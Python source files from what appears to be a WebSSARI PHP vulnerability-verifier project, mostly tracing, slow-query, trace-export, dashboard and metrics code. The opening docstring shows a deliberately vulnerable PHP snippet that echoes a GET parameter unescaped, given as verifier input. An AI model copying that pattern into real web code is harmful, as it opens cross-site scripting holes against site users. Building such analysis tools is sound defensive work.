    report = WebSSARI().verify_source('<?php $x = $_GET["q"]; echo $x; ?>')
    print(report.summary())
"""

__version__ = "1.0.0"

__all__ = ["WebSSARI", "VerificationReport", "__version__"]


def __getattr__(name):
    # Lazy import keeps `import repro.sat` cheap and avoids import cycles
    # during interpreter start-up.
    if name in ("WebSSARI", "VerificationReport"):
        from repro import websari

        return getattr(websari, name)
    raise AttributeError(f"module 'repro' has no attribute {name!r}")
