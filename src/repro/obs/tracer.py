"""Hierarchical span tracer — zero-dependency, thread- and process-safe.

A :class:`Span` is one timed operation (a pipeline stage, one SAT solve,
one assertion's enumeration); spans nest into trees via a per-thread
stack, so instrumented code never passes span objects around::

    tracer = Tracer()
    with tracer.span("sat") :
        with tracer.span("sat.solve", iteration=0) as sp:
            ...
            sp.set(decisions=42, conflicts=3)

Design points:

* **Monotonic clocks.**  Durations come from ``time.perf_counter``;
  absolute timestamps are reconstructed from one wall-clock anchor
  captured at tracer construction, so spans from different processes
  sort correctly on a shared timeline while individual durations are
  immune to wall-clock steps.
* **Thread safety.**  The active-span stack is ``threading.local``;
  finished root spans and span ids are guarded by a lock (ids also
  survive ``fork`` distinctly because every span records its pid).
* **Process safety.**  Span trees serialize to plain JSON-able dicts
  (:meth:`Span.to_dict` / :func:`span_from_dict`); audit workers ship
  their trees back to the scheduler with each outcome and the scheduler
  stitches them under per-file roots via :meth:`Tracer.add`.
* **Disabled mode is free.**  ``Tracer(enabled=False).span(...)``
  returns the module-level :data:`NULL_SPAN` singleton — no allocation,
  no clock reads — so always-on instrumentation costs one attribute
  check per call site.  :func:`get_tracer` defaults to the disabled
  :data:`NULL_TRACER`.
"""

from __future__ import annotations

import itertools
import os
import threading
import time

__all__ = [
    "NULL_SPAN",
    "NULL_TRACER",
    "Span",
    "Tracer",
    "get_tracer",
    "set_tracer",
    "span_from_dict",
]


class Span:
    """One timed, attributed node of a trace tree.

    Not created directly — use :meth:`Tracer.span` (context manager) or
    :func:`span_from_dict` when deserializing.
    """

    __slots__ = ("name", "span_id", "start", "duration", "attrs", "children", "pid", "tid")

    def __init__(
        self,
        name: str,
        start: float = 0.0,
        duration: float = 0.0,
        attrs: dict | None = None,
        span_id: int = 0,
        pid: int = 0,
        tid: int = 0,
    ) -> None:
        self.name = name
        self.span_id = span_id
        #: Wall-clock epoch seconds (monotonic offset from the tracer anchor).
        self.start = start
        self.duration = duration
        self.attrs: dict = attrs if attrs is not None else {}
        self.children: list[Span] = []
        self.pid = pid
        self.tid = tid

    @property
    def end(self) -> float:
        return self.start + self.duration

    def set(self, **attrs) -> None:
        """Attach attributes (merged into any set at creation)."""
        self.attrs.update(attrs)

    def walk(self):
        """Yield this span and every descendant, depth-first."""
        yield self
        for child in self.children:
            yield from child.walk()

    def to_dict(self) -> dict:
        """JSON-able representation (recursive; inverse of
        :func:`span_from_dict`)."""
        return {
            "name": self.name,
            "span_id": self.span_id,
            "start": self.start,
            "duration": self.duration,
            "attrs": dict(self.attrs),
            "pid": self.pid,
            "tid": self.tid,
            "children": [child.to_dict() for child in self.children],
        }

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return (
            f"Span({self.name!r}, start={self.start:.6f}, "
            f"duration={self.duration:.6f}, children={len(self.children)})"
        )


def span_from_dict(payload: dict) -> Span:
    """Rebuild a :class:`Span` tree from :meth:`Span.to_dict` output."""
    span = Span(
        name=str(payload.get("name", "")),
        start=float(payload.get("start", 0.0)),
        duration=float(payload.get("duration", 0.0)),
        attrs=dict(payload.get("attrs") or {}),
        span_id=int(payload.get("span_id", 0)),
        pid=int(payload.get("pid", 0)),
        tid=int(payload.get("tid", 0)),
    )
    span.children = [span_from_dict(child) for child in payload.get("children") or ()]
    return span


class _NullSpan:
    """The do-nothing span: context manager + ``set`` that ignore everything."""

    __slots__ = ()

    def __enter__(self) -> "_NullSpan":
        return self

    def __exit__(self, *exc) -> bool:
        return False

    def set(self, **attrs) -> None:
        pass


#: Shared no-op span — ``Tracer(enabled=False).span(...)`` always returns
#: exactly this object.
NULL_SPAN = _NullSpan()


class _ActiveSpan:
    """Context manager that opens a real span on the tracer's thread stack."""

    __slots__ = ("_tracer", "_name", "_attrs", "_span")

    def __init__(self, tracer: "Tracer", name: str, attrs: dict) -> None:
        self._tracer = tracer
        self._name = name
        self._attrs = attrs
        self._span: Span | None = None

    def __enter__(self) -> Span:
        self._span = self._tracer._open(self._name, self._attrs)
        return self._span

    def __exit__(self, exc_type, exc, tb) -> bool:
        assert self._span is not None
        if exc_type is not None:
            self._span.attrs.setdefault("error", exc_type.__name__)
        self._tracer._close(self._span)
        return False


class Tracer:
    """Collects span trees; hand out spans via :meth:`span`.

    Finished parentless spans accumulate in an internal root list;
    :meth:`take_roots` drains it (e.g. for serialization or export).
    """

    def __init__(self, enabled: bool = True) -> None:
        self.enabled = enabled
        self._lock = threading.Lock()
        self._local = threading.local()
        self._roots: list[Span] = []
        self._ids = itertools.count(1)
        # One wall-clock anchor: absolute time = anchor + perf_counter().
        self._anchor = time.time() - time.perf_counter()

    # -- span lifecycle -----------------------------------------------------

    def now(self) -> float:
        """Monotonic-progressing epoch seconds."""
        return self._anchor + time.perf_counter()

    def span(self, name: str, **attrs):
        """Context manager for one timed operation (no-op when disabled)."""
        if not self.enabled:
            return NULL_SPAN
        return _ActiveSpan(self, name, attrs)

    def _stack(self) -> list[Span]:
        stack = getattr(self._local, "stack", None)
        if stack is None:
            stack = self._local.stack = []
        return stack

    def _open(self, name: str, attrs: dict) -> Span:
        span = Span(
            name,
            start=self.now(),
            attrs=attrs,
            span_id=next(self._ids),
            pid=os.getpid(),
            tid=threading.get_ident(),
        )
        self._stack().append(span)
        return span

    def _close(self, span: Span) -> None:
        span.duration = self.now() - span.start
        stack = self._stack()
        # Tolerate exotic exits (generators, mismatched frames): unwind to
        # this span rather than corrupting the stack.
        while stack and stack[-1] is not span:
            stack.pop()
        if stack:
            stack.pop()
        if stack:
            stack[-1].children.append(span)
        else:
            with self._lock:
                self._roots.append(span)

    # -- assembling trees from elsewhere ------------------------------------

    def add(self, span: Span) -> None:
        """Attach an already-finished span tree (e.g. deserialized from a
        worker) under the current open span, or as a root."""
        if not self.enabled:
            return
        stack = getattr(self._local, "stack", None)
        if stack:
            stack[-1].children.append(span)
        else:
            with self._lock:
                self._roots.append(span)

    def take_roots(self) -> list[Span]:
        """Return and clear the finished root spans."""
        with self._lock:
            roots, self._roots = self._roots, []
        return roots


#: The default, disabled tracer every call site sees until one is installed.
NULL_TRACER = Tracer(enabled=False)

_active: Tracer = NULL_TRACER


def get_tracer() -> Tracer:
    """The process-wide active tracer (the no-op one by default)."""
    return _active


def set_tracer(tracer: Tracer | None) -> Tracer:
    """Install ``tracer`` (None restores the no-op); returns the previous
    tracer so callers can restore it in a ``finally``."""
    global _active
    previous = _active
    _active = tracer if tracer is not None else NULL_TRACER
    return previous
