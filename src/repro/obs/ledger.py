"""Bounded top-K ledger of the hardest SAT queries seen by an audit.

Each BMC check times every per-assertion SAT solve and feeds the record
into a :class:`SlowQueryLedger` — a min-heap that keeps only the K most
expensive queries, so per-file and fleet-wide ledgers stay O(K) no
matter how many queries an audit issues.

Record schema (all keys optional except ``seconds``)::

    {
        "seconds": 0.731,          # solve wall time
        "file": "guestbook.php",   # audited file (attached by the engine)
        "assert_id": 3,            # assertion index within the file
        "iteration": 2,            # counterexample-enumeration round
        "decisions": 1842,         # solver decisions for this query
        "conflicts": 97,           # solver conflicts for this query
        "satisfiable": true,
        "backend": "cdcl",
        "fingerprint": "ab12...",  # canonical-CNF SHA-256 (sat cache key)
        "node": "worker-3",        # attached when merging across nodes
    }

Ledgers ride the JSONL stats trailer (``"slow_queries": [...]``);
``obs.report.load_audit`` merges per-node ledgers into the fleet-wide
top offenders that ``repro report`` prints.
"""

from __future__ import annotations

import heapq
from typing import Iterable, Iterator

__all__ = ["SlowQueryLedger", "DEFAULT_CAPACITY"]

#: Default number of queries a ledger retains.
DEFAULT_CAPACITY = 16


class SlowQueryLedger:
    """Keep the ``capacity`` slowest query records by ``seconds``."""

    __slots__ = ("capacity", "_heap", "_seq")

    def __init__(self, capacity: int = DEFAULT_CAPACITY) -> None:
        if capacity < 1:
            raise ValueError("ledger capacity must be >= 1")
        self.capacity = capacity
        # Min-heap of (seconds, insertion seq, record): the root is the
        # cheapest retained query and the first evicted.  The seq tiebreaks
        # equal times so heapq never compares the record dicts.
        self._heap: list[tuple[float, int, dict]] = []
        self._seq = 0

    def observe(self, record: dict) -> None:
        """Consider one query record for retention."""
        seconds = float(record.get("seconds", 0.0))
        entry = (seconds, self._seq, record)
        self._seq += 1
        if len(self._heap) < self.capacity:
            heapq.heappush(self._heap, entry)
        elif seconds > self._heap[0][0]:
            heapq.heapreplace(self._heap, entry)

    def merge(self, records: Iterable[dict] | None) -> None:
        """Fold another ledger's records (e.g. from a JSONL trailer) in."""
        for record in records or ():
            if isinstance(record, dict):
                self.observe(record)

    def records(self) -> list[dict]:
        """Retained records, most expensive first."""
        ordered = sorted(self._heap, key=lambda entry: (-entry[0], entry[1]))
        return [record for _seconds, _seq, record in ordered]

    def __len__(self) -> int:
        return len(self._heap)

    def __iter__(self) -> Iterator[dict]:
        return iter(self.records())

    def __bool__(self) -> bool:
        return bool(self._heap)
