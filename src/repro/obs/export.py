"""Trace exporters: Chrome trace-event JSON (Perfetto / chrome://tracing).

The exporter flattens span trees into the Trace Event Format's complete
("ph": "X") events.  Timestamps are microseconds relative to the
earliest span in the batch, so files load with t=0 at the run start;
each event keeps the pid/tid recorded at span creation, which is what
makes scheduler-stitched multi-process audits render one track per
worker process.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Iterable

from repro.obs.tracer import Span

__all__ = ["chrome_trace_events", "write_chrome_trace"]


def _earliest_start(roots: list[Span]) -> float:
    starts = [span.start for root in roots for span in root.walk()]
    return min(starts) if starts else 0.0


def chrome_trace_events(roots: Iterable[Span]) -> list[dict]:
    """Flatten span trees into Chrome trace-event dicts.

    Every span becomes one complete event; ``args`` carries the span
    attributes.  Process-name metadata events label each pid track.
    """
    root_list = list(roots)
    base = _earliest_start(root_list)
    events: list[dict] = []
    pids: set[int] = set()
    for root in root_list:
        for span in root.walk():
            pids.add(span.pid)
            events.append(
                {
                    "name": span.name,
                    "cat": "repro",
                    "ph": "X",
                    "ts": round((span.start - base) * 1e6, 3),
                    "dur": round(span.duration * 1e6, 3),
                    "pid": span.pid,
                    "tid": span.tid,
                    "args": dict(span.attrs),
                }
            )
    for pid in sorted(pids):
        events.append(
            {
                "name": "process_name",
                "ph": "M",
                "pid": pid,
                "tid": 0,
                "args": {"name": f"repro pid {pid}"},
            }
        )
    return events


def write_chrome_trace(path: str | Path, roots: Iterable[Span]) -> Path:
    """Write a Chrome trace-event JSON file; returns the path written."""
    path = Path(path)
    payload = {
        "traceEvents": chrome_trace_events(roots),
        "displayTimeUnit": "ms",
        "otherData": {"producer": "repro.obs"},
    }
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(payload, sort_keys=True))
    return path
