"""Pipeline-wide observability: span tracing, metrics, trace export,
audit-report tooling.

The verifier's interesting story at corpus scale is *where time and
verdicts come from* — per-phase cost of parse → filter → AI → BMC → SAT
and per-assertion counterexample enumeration.  This package makes that
inspectable with zero dependencies and (by design) zero cost when
disabled:

* :mod:`repro.obs.tracer` — hierarchical span tracer with a
  context-manager API, monotonic clocks, thread/process-safe ids, and a
  free no-op mode (:data:`NULL_TRACER` / :data:`NULL_SPAN`).
* :mod:`repro.obs.metrics` — counter/gauge/histogram registry with a
  Prometheus text snapshot.
* :mod:`repro.obs.export` — Chrome trace-event JSON export (loadable in
  Perfetto or ``chrome://tracing``).
* :mod:`repro.obs.report` — consumers for ``repro audit`` JSONL streams:
  run summaries (text and JSON) and new/fixed/regressed diffs.
* :mod:`repro.obs.ledger` — bounded top-K ledger of the hardest SAT
  queries, merged fleet-wide through JSONL stats trailers.
* :mod:`repro.obs.html` — self-contained HTML audit dashboard
  (``repro report --html``).

See ``docs/OBSERVABILITY.md`` for the span model and CLI usage.
"""

from repro.obs.export import chrome_trace_events, write_chrome_trace
from repro.obs.html import render_dashboard
from repro.obs.ledger import SlowQueryLedger
from repro.obs.metrics import (
    DEFAULT_BUCKETS,
    DEFAULT_QUANTILES,
    Counter,
    FleetMetrics,
    Gauge,
    Histogram,
    MetricsRegistry,
    estimate_quantile,
)
from repro.obs.report import (
    AuditDiff,
    AuditRun,
    ReportError,
    diff_runs,
    load_audit,
    render_diff,
    render_report,
    replay_disagreements,
    summarize_run,
)
from repro.obs.tracer import (
    NULL_SPAN,
    NULL_TRACER,
    Span,
    Tracer,
    get_tracer,
    set_tracer,
    span_from_dict,
)

__all__ = [
    "AuditDiff",
    "AuditRun",
    "Counter",
    "DEFAULT_BUCKETS",
    "DEFAULT_QUANTILES",
    "FleetMetrics",
    "Gauge",
    "Histogram",
    "MetricsRegistry",
    "NULL_SPAN",
    "NULL_TRACER",
    "ReportError",
    "SlowQueryLedger",
    "Span",
    "Tracer",
    "chrome_trace_events",
    "diff_runs",
    "estimate_quantile",
    "get_tracer",
    "load_audit",
    "render_dashboard",
    "render_diff",
    "render_report",
    "replay_disagreements",
    "set_tracer",
    "span_from_dict",
    "summarize_run",
    "write_chrome_trace",
]
