"""Self-contained HTML audit dashboard (``repro report --html``).

Renders one parsed audit JSONL stream (:class:`~repro.obs.report.AuditRun`,
single-box or a merged fleet stream from ``repro serve``) into a single
HTML file with **no external assets** — inline CSS only, no scripts, no
network fetches — so the artifact can be archived from CI and opened
anywhere:

* hero tiles (files / verdicts / wall time / nodes),
* a verdict table (``id="verdicts"``) with per-file drill-down
  ``<details>`` blocks (stage timings, solver counters, warnings,
  summaries, per-file slow queries),
* per-stage latency histograms (``id="stage-latency"``) as direct-labeled
  CSS bars over the same buckets the ``/metrics`` histograms use, plus
  the bucket-interpolated p50/p90/p99 estimates,
* the fleet-wide slow-query table (``id="slow-queries"``) with node
  attribution, and a per-node table (``id="nodes"``).

Same stdlib string-building approach as
:mod:`repro.websari.htmlreport`; output is deterministic for a given
stream.
"""

from __future__ import annotations

import html as _html
from bisect import bisect_left

from repro.obs.metrics import DEFAULT_BUCKETS
from repro.obs.report import AuditRun, replay_disagreements, stage_quantiles

__all__ = ["render_dashboard"]

_STYLE = """
body { font-family: monospace; margin: 2em; background: #fdfdfd; color: #222; }
h1 { font-size: 1.3em; } h2 { font-size: 1.1em; margin-top: 1.8em; }
.warn { background: #fff3cd; border: 1px solid #e6d9a0; padding: 0.4em 0.8em;
        border-radius: 4px; margin: 0.6em 0; }
.tiles { display: flex; flex-wrap: wrap; gap: 0.8em; margin: 1em 0; }
.tile { border: 1px solid #ccc; border-radius: 4px; background: #fff;
        padding: 0.6em 1.2em; min-width: 7em; }
.tile .num { font-size: 1.5em; font-weight: bold; display: block; }
.tile .cap { color: #777; font-size: 0.85em; }
table.data { border-collapse: collapse; background: #fff; }
table.data th, table.data td { border: 1px solid #ddd; padding: 0.25em 0.7em;
        text-align: left; }
table.data th { background: #f0f0f0; }
table.data tr:hover td { background: #f5f9ff; }
td.num, th.num { text-align: right; }
.badge { display: inline-block; padding: 0 0.5em; border-radius: 3px;
         font-size: 0.9em; font-weight: bold; }
.v-safe { background: #e2f2e7; color: #0a7d32; }
.v-vulnerable { background: #f8d7da; color: #b00020; }
.v-failed { background: #eee; color: #555; }
details.file { border: 1px solid #ccc; border-radius: 4px; background: #fff;
               margin: 0.5em 0; padding: 0.3em 0.8em; }
details.file summary { cursor: pointer; }
details.file pre { background: #f7f7f7; padding: 0.5em; overflow-x: auto; }
.chart { margin: 0.8em 0 1.4em 0; }
.chart .row { display: flex; align-items: center; margin: 2px 0; }
.chart .lbl { width: 9em; text-align: right; padding-right: 0.8em; color: #555; }
.chart .track { flex: 1; max-width: 32em; }
.chart .bar { background: #3973ac; border-radius: 0 3px 3px 0; height: 14px;
              min-width: 2px; }
.chart .bar.zero { background: transparent; min-width: 0; }
.chart .cnt { padding-left: 0.6em; color: #222; }
.quantiles { color: #555; margin: 0.2em 0 0.8em 0; }
.fp { color: #777; }
footer { margin-top: 2.5em; color: #999; font-size: 0.85em; }
"""


def _esc(value) -> str:
    return _html.escape(str(value))


def _verdict_of(record: dict) -> str:
    if record.get("status") == "ok":
        return "safe" if record.get("safe") else "vulnerable"
    return str(record.get("status", "?"))


def _badge(verdict: str) -> str:
    css = {"safe": "v-safe", "vulnerable": "v-vulnerable"}.get(verdict, "v-failed")
    return f"<span class='badge {css}'>{_esc(verdict)}</span>"


def _replay_cell(record: dict) -> str:
    """Concretely-confirmed cell: ``confirmed/traces`` or an em-dash."""
    replay = record.get("replay")
    if not isinstance(replay, dict) or not replay:
        return "—"
    confirmed = int(replay.get("confirmed") or 0)
    total = confirmed + int(replay.get("refuted") or 0) + int(
        replay.get("unsupported") or 0
    )
    text = f"{confirmed}/{total}"
    if int(replay.get("refuted") or 0) and record.get("safe") is False:
        return f"<span class='badge v-vulnerable'>{_esc(text)}</span>"
    return _esc(text)


def _fmt_seconds(value) -> str:
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return f"{float(value):.3f}s"
    return "—"


def _bucket_rows(values: list[float]) -> list[tuple[str, int]]:
    """Non-cumulative per-bucket counts over the shared metric buckets."""
    counts = [0] * (len(DEFAULT_BUCKETS) + 1)
    for value in values:
        counts[bisect_left(DEFAULT_BUCKETS, value)] += 1
    labels = []
    previous = 0.0
    for bound in DEFAULT_BUCKETS:
        labels.append(f"{previous:g}–{bound:g}s")
        previous = bound
    labels.append(f">{DEFAULT_BUCKETS[-1]:g}s")
    return list(zip(labels, counts))


def _bar_chart(rows: list[tuple[str, int]]) -> list[str]:
    peak = max((count for _label, count in rows), default=0)
    out = ["<div class='chart'>"]
    for label, count in rows:
        width = (100.0 * count / peak) if peak else 0.0
        bar_class = "bar" if count else "bar zero"
        out.append(
            "<div class='row'>"
            f"<span class='lbl'>{_esc(label)}</span>"
            "<span class='track'>"
            f"<div class='{bar_class}' style='width:{width:.1f}%' "
            f"title='{_esc(label)}: {count} file(s)'></div></span>"
            f"<span class='cnt'>{count}</span>"
            "</div>"
        )
    out.append("</div>")
    return out


def render_dashboard(run: AuditRun, top: int = 10) -> str:
    """Render one audit run as a standalone HTML dashboard page."""
    records = run.files
    by_name = run.by_filename()
    stats = run.stats or {}
    safe = sum(1 for r in by_name.values() if _verdict_of(r) == "safe")
    vulnerable = sum(1 for r in by_name.values() if _verdict_of(r) == "vulnerable")
    failed = len(by_name) - safe - vulnerable
    wall = stats.get("wall_seconds")
    cached = sum(1 for r in records if r.get("cached"))

    out: list[str] = []
    out.append("<!DOCTYPE html><html><head><meta charset='utf-8'>")
    out.append(f"<title>repro audit dashboard — {_esc(run.path)}</title>")
    out.append(f"<style>{_STYLE}</style></head><body>")
    out.append(f"<h1>repro audit dashboard — {_esc(run.path)}</h1>")
    if run.truncated:
        out.append(
            "<div class='warn'>stream has no stats trailer "
            "(truncated or interrupted run)</div>"
        )
    if stats.get("interrupted"):
        out.append("<div class='warn'>run was interrupted before completion</div>")

    # -- hero tiles --------------------------------------------------------
    tiles = [
        (str(len(by_name)), "files"),
        (str(safe), "safe"),
        (str(vulnerable), "vulnerable"),
        (str(failed), "failed"),
        (f"{wall:.2f}s" if isinstance(wall, (int, float)) else "—", "wall time"),
        (str(cached), "cache hits"),
    ]
    replay_confirmed = sum(
        int((r.get("replay") or {}).get("confirmed") or 0)
        for r in by_name.values()
        if isinstance(r.get("replay"), dict)
    )
    has_replay = any(
        isinstance(r.get("replay"), dict) and r["replay"] for r in by_name.values()
    )
    if has_replay:
        tiles.append((str(replay_confirmed), "confirmed"))
    if run.node_stats:
        tiles.append((str(len(run.node_stats)), "nodes"))
    out.append("<section class='tiles'>")
    for number, caption in tiles:
        out.append(
            f"<div class='tile'><span class='num'>{_esc(number)}</span>"
            f"<span class='cap'>{_esc(caption)}</span></div>"
        )
    out.append("</section>")

    # -- verdict table -----------------------------------------------------
    out.append("<h2>Verdicts</h2>")
    out.append("<table class='data' id='verdicts'>")
    out.append(
        "<tr><th>file</th><th>verdict</th><th class='num'>confirmed</th>"
        "<th class='num'>duration</th>"
        "<th class='num'>assertions</th><th>node</th><th>cached</th></tr>"
    )
    for index, filename in enumerate(sorted(by_name)):
        record = by_name[filename]
        anchor = f"file-{index}"
        out.append(
            "<tr>"
            f"<td><a href='#{anchor}'>{_esc(filename)}</a></td>"
            f"<td>{_badge(_verdict_of(record))}</td>"
            f"<td class='num'>{_replay_cell(record)}</td>"
            f"<td class='num'>{_fmt_seconds(record.get('duration'))}</td>"
            f"<td class='num'>{record.get('num_ai_assertions', 0)}</td>"
            f"<td>{_esc(record.get('node') or '—')}</td>"
            f"<td>{'yes' if record.get('cached') else 'no'}</td>"
            "</tr>"
        )
    out.append("</table>")
    disagreements = replay_disagreements(records)
    if disagreements:
        out.append(
            "<div class='warn' id='replay-disagreements'>"
            f"{len(disagreements)} vulnerable verdict(s) with refuted replays "
            "(candidate false positives): "
            + ", ".join(_esc(item["filename"]) for item in disagreements)
            + "</div>"
        )

    # -- per-file drill-down ----------------------------------------------
    out.append("<h2>Per-file detail</h2>")
    for index, filename in enumerate(sorted(by_name)):
        record = by_name[filename]
        anchor = f"file-{index}"
        out.append(f"<details class='file' id='{anchor}'>")
        out.append(
            f"<summary>{_esc(filename)} {_badge(_verdict_of(record))} "
            f"{_fmt_seconds(record.get('duration'))}</summary>"
        )
        timings = record.get("timings") or {}
        if timings:
            parts = " · ".join(
                f"{_esc(stage)} {_fmt_seconds(seconds)}"
                for stage, seconds in sorted(timings.items())
            )
            out.append(f"<div>stages: {parts}</div>")
        solver = record.get("solver") or {}
        if solver:
            parts = " · ".join(
                f"{_esc(name)} {_esc(value)}" for name, value in sorted(solver.items())
            )
            out.append(f"<div>solver: {parts}</div>")
        replay = record.get("replay") or {}
        if replay:
            out.append(
                "<div>replay: "
                f"{int(replay.get('confirmed') or 0)} confirmed · "
                f"{int(replay.get('refuted') or 0)} refuted · "
                f"{int(replay.get('unsupported') or 0)} unsupported</div>"
            )
            for trace in (replay.get("traces") or [])[:5]:
                if not isinstance(trace, dict):
                    continue
                patched = trace.get("patched")
                patched_text = f", patched: {patched}" if patched else ""
                out.append(
                    f"<div>· assert#{_esc(trace.get('assert_id', '?'))} "
                    f"{_esc(trace.get('verdict', '?'))}"
                    f"{_esc(patched_text)} — {_esc(trace.get('reason', ''))}</div>"
                )
        queries = record.get("slow_queries") or []
        if queries:
            out.append("<div>hardest queries:</div><ul>")
            for query in queries[:5]:
                out.append(
                    f"<li>{_fmt_seconds(query.get('seconds'))} — "
                    f"assertion {_esc(query.get('assert_id', '?'))}, "
                    f"{_esc(query.get('decisions', 0))} decisions</li>"
                )
            out.append("</ul>")
        for warning in record.get("warnings") or []:
            out.append(f"<div class='warn'>{_esc(warning)}</div>")
        if record.get("error"):
            out.append(f"<pre>{_esc(record['error'])}</pre>")
        if record.get("summary"):
            out.append(f"<pre>{_esc(record['summary'])}</pre>")
        out.append("</details>")

    # -- stage latency -----------------------------------------------------
    out.append("<section id='stage-latency'><h2>Stage latency</h2>")
    quantiles = stage_quantiles(records)
    per_stage: dict[str, list[float]] = {}
    for record in records:
        if record.get("cached"):
            continue
        for stage, seconds in (record.get("timings") or {}).items():
            if isinstance(seconds, (int, float)) and not isinstance(seconds, bool):
                per_stage.setdefault(str(stage), []).append(float(seconds))
    if not quantiles:
        out.append("<p>no stage timings in this stream (fully cached run?)</p>")
    for stage, latency in quantiles.items():
        out.append(f"<h3>{_esc(stage)}</h3>")
        out.append(
            "<div class='quantiles'>"
            f"p50 {_fmt_seconds(latency['p50'])} · "
            f"p90 {_fmt_seconds(latency['p90'])} · "
            f"p99 {_fmt_seconds(latency['p99'])} · "
            f"n={latency['count']} (bucket-interpolated)</div>"
        )
        out.extend(_bar_chart(_bucket_rows(per_stage.get(stage, []))))
    out.append("</section>")

    # -- slow queries ------------------------------------------------------
    slow = run.slow_queries(top=max(0, top))
    out.append("<h2>Slow SAT queries</h2>")
    if slow:
        out.append("<table class='data' id='slow-queries'>")
        out.append(
            "<tr><th class='num'>seconds</th><th>file</th>"
            "<th class='num'>assertion</th><th class='num'>decisions</th>"
            "<th class='num'>conflicts</th><th>node</th><th>fingerprint</th></tr>"
        )
        for query in slow:
            fingerprint = query.get("fingerprint")
            fp_text = fingerprint[:12] if isinstance(fingerprint, str) else "—"
            out.append(
                "<tr>"
                f"<td class='num'>{_fmt_seconds(query.get('seconds'))}</td>"
                f"<td>{_esc(query.get('file') or '?')}</td>"
                f"<td class='num'>{_esc(query.get('assert_id', '?'))}</td>"
                f"<td class='num'>{_esc(query.get('decisions', '—'))}</td>"
                f"<td class='num'>{_esc(query.get('conflicts', '—'))}</td>"
                f"<td>{_esc(query.get('node') or '—')}</td>"
                f"<td class='fp'>{_esc(fp_text)}</td>"
                "</tr>"
            )
        out.append("</table>")
    else:
        out.append("<p id='slow-queries'>no slow-query ledger in this stream</p>")

    # -- node attribution --------------------------------------------------
    if run.node_stats:
        out.append("<h2>Nodes</h2>")
        out.append("<table class='data' id='nodes'>")
        out.append(
            "<tr><th>node</th><th class='num'>files</th><th class='num'>safe</th>"
            "<th class='num'>vulnerable</th><th class='num'>failed</th></tr>"
        )
        for node, trailer in sorted(run.node_stats.items()):
            out.append(
                "<tr>"
                f"<td>{_esc(node)}</td>"
                f"<td class='num'>{_esc(trailer.get('files', '—'))}</td>"
                f"<td class='num'>{_esc(trailer.get('safe', '—'))}</td>"
                f"<td class='num'>{_esc(trailer.get('vulnerable', '—'))}</td>"
                f"<td class='num'>{_esc(trailer.get('failed', '—'))}</td>"
                "</tr>"
            )
        out.append("</table>")

    out.append(
        "<footer>generated by <code>repro report --html</code> — "
        "quantiles are bucket-interpolated estimates over the shared "
        "metrics buckets, not exact order statistics</footer>"
    )
    out.append("</body></html>")
    return "\n".join(out)
