"""Metrics registry: counters, gauges, histograms, Prometheus text render.

A tiny, dependency-free subset of the Prometheus client model, enough to
snapshot an audit run::

    registry = MetricsRegistry()
    registry.counter("repro_files_total", "files by outcome").inc(status="ok")
    registry.histogram("repro_file_seconds", "per-file wall time").observe(0.12)
    print(registry.render())

Every metric supports label sets passed as keyword arguments; each
distinct label set keeps its own value.  ``render()`` emits the
Prometheus text exposition format (``# HELP``/``# TYPE`` headers,
``name{label="value"} 1.0`` samples, cumulative histogram buckets with a
``+Inf`` bucket plus ``_sum``/``_count`` series).  All operations are
thread-safe behind one registry lock.
"""

from __future__ import annotations

import math
import threading

__all__ = ["Counter", "Gauge", "Histogram", "MetricsRegistry", "DEFAULT_BUCKETS"]

#: Seconds-oriented default histogram buckets (audit files span ~1 ms to minutes).
DEFAULT_BUCKETS = (0.001, 0.005, 0.01, 0.05, 0.1, 0.5, 1.0, 5.0, 10.0, 60.0)

LabelKey = tuple[tuple[str, str], ...]


def _label_key(labels: dict) -> LabelKey:
    return tuple(sorted((str(k), str(v)) for k, v in labels.items()))


def _escape(value: str) -> str:
    return value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")


def _render_labels(key: LabelKey, extra: tuple[tuple[str, str], ...] = ()) -> str:
    items = key + extra
    if not items:
        return ""
    body = ",".join(f'{name}="{_escape(value)}"' for name, value in items)
    return "{" + body + "}"


def _format_value(value: float) -> str:
    if value == math.inf:
        return "+Inf"
    if float(value).is_integer():
        return str(int(value))
    return repr(float(value))


class _Metric:
    kind = "untyped"

    def __init__(self, name: str, help_text: str, lock: threading.Lock) -> None:
        self.name = name
        self.help = help_text
        self._lock = lock
        self._values: dict[LabelKey, float] = {}

    def value(self, **labels) -> float:
        return self._values.get(_label_key(labels), 0.0)

    def _samples(self) -> list[str]:
        # Snapshot under the lock: a scrape concurrent with inc()/set()
        # (e.g. the daemon metrics server during an active cycle) must not
        # iterate a dict another thread is growing.
        with self._lock:
            values = dict(self._values)
        lines = []
        for key in sorted(values):
            lines.append(f"{self.name}{_render_labels(key)} {_format_value(values[key])}")
        return lines


class Counter(_Metric):
    """Monotonically increasing value per label set."""

    kind = "counter"

    def inc(self, amount: float = 1.0, **labels) -> None:
        if amount < 0:
            raise ValueError("counters can only increase")
        key = _label_key(labels)
        with self._lock:
            self._values[key] = self._values.get(key, 0.0) + amount


class Gauge(_Metric):
    """Set-to-current-value metric per label set."""

    kind = "gauge"

    def set(self, value: float, **labels) -> None:
        with self._lock:
            self._values[_label_key(labels)] = float(value)

    def inc(self, amount: float = 1.0, **labels) -> None:
        key = _label_key(labels)
        with self._lock:
            self._values[key] = self._values.get(key, 0.0) + amount


class Histogram:
    """Cumulative-bucket histogram per label set."""

    kind = "histogram"

    def __init__(
        self,
        name: str,
        help_text: str,
        lock: threading.Lock,
        buckets: tuple[float, ...] = DEFAULT_BUCKETS,
    ) -> None:
        self.name = name
        self.help = help_text
        self._lock = lock
        self.buckets = tuple(sorted(buckets))
        if not self.buckets:
            raise ValueError("histogram needs at least one bucket bound")
        # label key -> (per-bucket counts, sum, count)
        self._series: dict[LabelKey, list] = {}

    def observe(self, value: float, **labels) -> None:
        key = _label_key(labels)
        with self._lock:
            series = self._series.get(key)
            if series is None:
                series = self._series[key] = [[0] * len(self.buckets), 0.0, 0]
            counts, total, count = series
            for i, bound in enumerate(self.buckets):
                if value <= bound:
                    counts[i] += 1
            series[1] = total + value
            series[2] = count + 1

    def count(self, **labels) -> int:
        series = self._series.get(_label_key(labels))
        return series[2] if series else 0

    def sum(self, **labels) -> float:
        series = self._series.get(_label_key(labels))
        return series[1] if series else 0.0

    def _samples(self) -> list[str]:
        # Deep-copy under the lock for the same scrape-vs-observe race as
